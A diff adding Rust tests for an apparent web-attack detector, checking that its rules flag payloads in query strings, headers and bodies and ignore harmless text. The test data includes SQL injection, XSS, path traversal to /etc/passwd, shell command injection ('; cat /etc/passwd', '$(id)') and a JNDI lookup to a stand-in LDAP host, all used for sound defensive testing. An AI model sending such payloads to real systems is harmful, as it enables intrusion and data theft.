@@ -1,0 +1,228 @@
+//! Do the rules find what they say, and leave the rest alone?
+
+use super::category::Severity;
+use super::scan::{Detection, RuleSet, Scan};
+use crate::exchange::Head;
+use crate::read::place::Place;
+use crate::read::{self, Field};
+use proptest::prelude::*;
+
+struct Example {
+    rule: &'static str,
+    place: Place,
+    name: &'static str,
+    matches: &'static [&'static str],
+    harmless: &'static [&'static str],
+}
+
+include!(concat!(env!("OUT_DIR"), "/examples.rs"));
+
+/// Scans an example: a request line (`GET /a?b=c`), or else a value at the first place where its rule looks.
+fn scan(rules: &RuleSet, place: Place, name: &str, example: &str) -> Vec<Detection> {
+    let mut scan = Scan::new();
+    match example.split_once(' ') {
+        Some((method @ ("GET" | "POST"), target)) if target.starts_with('/') => {
+            let head = Head::new([(":method", method), (":path", target)].into_iter().collect());
+            read::head(&head, &mut |field| scan.push(rules, field));
+        }
+        _ => scan.push(rules, Field { place, name: name.as_bytes(), value: example.as_bytes(), encoded: false }),
+    }
+    scan.take()
+}
+
+#[test]
+fn rules_find_their_examples_and_leave_their_counter_examples_alone() {
+    let rules = RuleSet::builtin();
+    let mut wrong = Vec::new();
+    for example in EXAMPLES {
+        let found = |text: &str| -> Vec<&str> {
+            scan(&rules, example.place, example.name, text).iter().map(|one| rules.rule(one.rule).id).collect()
+        };
+        for text in example.matches {
+            if !found(text).contains(&example.rule) {
+                wrong.push(format!("{} misses {text:?}, found {:?}", example.rule, found(text)));
+            }
+        }
+        for text in example.harmless {
+            if found(text).contains(&example.rule) {
+                wrong.push(format!("{} takes {text:?} for an attack", example.rule));
+            }
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
+/// All detections of a request line, as `rule place value`.
+fn found(target: &str, headers: &[(&str, &str)]) -> Vec<String> {
+    let rules = RuleSet::builtin();
+    let pseudo = [(":method", "GET"), (":path", target)];
+    let head = Head::new(pseudo.iter().chain(headers).copied().collect());
+    let mut scan = Scan::new();
+    read::head(&head, &mut |field| scan.push(&rules, field));
+    let line = |one: &Detection| format!("{} {} {}", rules.rule(one.rule).id, one.place, one.value.escape_ascii());
+    scan.detections().iter().map(line).collect()
+}
+
+#[test]
+fn an_act_has_the_same_value_wherever_its_address_stands() {
+    let value = "1\\' union select 1,2--";
+    let check = |target: &str, headers: &[(&str, &str)], place: &str| {
+        let expected = format!("sqli.union-select {place} {value}");
+        assert!(found(target, headers).contains(&expected), "{:?}", found(target, headers));
+    };
+    check("/item?id=1'+union+select+1,2--", &[], "query:id");
+    check("/style.css", &[("referer", "https://shop.example/item?id=1'+union+select+1,2--")], "header:referer");
+    check(
+        "/style.css",
+        &[("referer", "https://shop.example/item?a=b&id=1%27%20union%20select%201%2C2--")],
+        "header:referer",
+    );
+    check("/login?next=%2Fitem%3Fid%3D1%2527%2Bunion%2Bselect%2B1%2C2--", &[], "query:next");
+}
+
+#[test]
+fn one_detection_for_each_rule_and_place() {
+    let twice = found("/?a=%27+or+1=1--&a=%27+or+1=1--&b=%27+or+1=1--", &[]);
+    let places: Vec<_> = twice.iter().filter(|line| line.starts_with("sqli.tautology")).collect();
+    assert_eq!(places.len(), 2, "{twice:?}");
+    let many: String = (0..1000).map(|n| format!("p{n}=%27+or+1=1--&")).collect();
+    assert_eq!(found(&format!("/?{many}"), &[]).len(), super::scan::DETECTIONS);
+}
+
+#[test]
+fn names_are_places_and_safe_to_print() {
+    let line = &found("/?%3Cscript%3Ealert(1)%3C/script%3E=1", &[])[0];
+    assert!(line.starts_with("xss.script query:%3Cscript%3Ealert(1)%3C/script%3E <script>"), "{line}");
+    let raw = format!("/?a\n{}=%27+or+1=1--", "b".repeat(200));
+    assert!(found(&raw, &[]).iter().all(|line| !line.contains('\n') && line.len() < 200));
+}
+
+#[test]
+fn every_rule_can_be_named() {
+    let rules = RuleSet::builtin();
+    for rule in rules.rules() {
+        assert_eq!(rules.by_id(rule.id), Some(rule));
+        assert!(super::category::Category::from_slug(rule.id.split('.').next().unwrap()) == Some(rule.category));
+    }
+    assert_eq!(rules.by_id("none.such"), None);
+}
+
+#[test]
+fn a_pasted_text_counts_for_less_and_a_lookup_does_not() {
+    let rules = RuleSet::builtin();
+    let worst = |value: &str| {
+        let mut scan = Scan::new();
+        scan.push(&rules, Field { place: Place::Json, name: b"text", value: value.as_bytes(), encoded: false });
+        scan.take().iter().map(|one| one.severity).max()
+    };
+    let padding = "It was a dark and stormy night. ".repeat(20);
+    assert_eq!(worst("<svg onload=alert(1)>"), Some(Severity::High));
+    assert_eq!(worst(&format!("{padding}<svg onload=alert(1)>")), Some(Severity::Medium));
+    assert_eq!(worst(&format!("{padding}${{jndi:ldap://x.example/a}}")), Some(Severity::Critical));
+}
+
+#[test]
+fn hostile_values_cost_what_their_length_says() {
+    let rules = RuleSet::builtin();
+    let parts = [
+        "'",
+        "\"",
+        "(",
+        ")",
+        "%25",
+        "%2525",
+        "${",
+        "}",
+        "<",
+        "<a ",
+        "<a x='",
+        "&",
+        "&#",
+        "&lt",
+        "\\",
+        "\\u",
+        "/*",
+        "*/",
+        "--",
+        "#",
+        "../",
+        ";",
+        "|",
+        "`",
+        "$(",
+        "\n",
+        "or ",
+        "' or '",
+        "union select ",
+        "on=",
+        "alert(",
+        "http://",
+        "javascript:",
+        "{\"a\":",
+        "[",
+        "=",
+        "&a=",
+        "%00",
+        "%c0",
+        "0x",
+        "for %",
+        "if ",
+        "(select ",
+        "char(1),",
+        "a/",
+        ".",
+        "%u0027",
+        "?",
+        "/?a=",
+    ];
+    for part in parts {
+        let text = part.repeat(64 * 1024 / part.len());
+        let mut scan = Scan::new();
+        for place in [Place::Query, Place::Path, Place::Text, Place::Header] {
+            scan.push(&rules, Field { place, name: b"x", value: text.as_bytes(), encoded: true });
+        }
+        let head = Head::new([("content-type", "application/json")].into_iter().collect());
+        let mut body = read::Body::new(&head, 1 << 20);
+        body.push(text.as_bytes(), &mut |field| scan.push(&rules, field));
+        body.finish(&mut |field| scan.push(&rules, field));
+        assert!(scan.detections().len() <= super::scan::DETECTIONS);
+    }
+}
+
+proptest! {
+    #[test]
+    fn any_bytes_are_scanned_and_the_answer_is_the_same(
+        value in prop::collection::vec(
+            prop_oneof![any::<u8>(), prop::sample::select(b"'\"<>()%;|&$`{}/\\.-#*=+orandunionselect 01ux".to_vec())],
+            0..400,
+        ),
+        encoded in any::<bool>(),
+    ) {
+        let rules = RuleSet::builtin();
+        for place in Place::ALL {
+            let field = Field { place: *place, name: b"x", value: &value, encoded };
+            let mut scans = [Scan::new(), Scan::new()];
+            scans.iter_mut().for_each(|scan| scan.push(&rules, field));
+            prop_assert_eq!(scans[0].take(), scans[1].take());
+            prop_assert!(scans[0].take().is_empty());
+        }
+    }
+
+    #[test]
+    fn harmless_text_around_a_payload_does_not_hide_it(
+        before in "[a-zA-Z0-9 ,.]{0,80}",
+        after in "[a-zA-Z0-9 ,.]{0,80}",
+        payload in prop::sample::select(vec![
+            "' UNION SELECT 1,2-- ", "<script>alert(1)</script>", "../../../../etc/passwd", "${jndi:ldap://x.example/a}",
+            "; cat /etc/passwd", "$(id)", "' or 1=1-- ",
+        ]),
+    ) {
+        let rules = RuleSet::builtin();
+        let mut scan = Scan::new();
+        let value = format!("{before}{payload}{after}");
+        // A step up the directories is one only behind a slash or at the start.
+        let joined = payload.starts_with("..") && !(before.is_empty() || before.ends_with(' '));
+        scan.push(&rules, Field { place: Place::Query, name: b"x", value: value.as_bytes(), encoded: false });
+        prop_assert!(joined || scan.detections().iter().any(|one| one.severity >= Severity::High), "{}", value);
+    }
+}
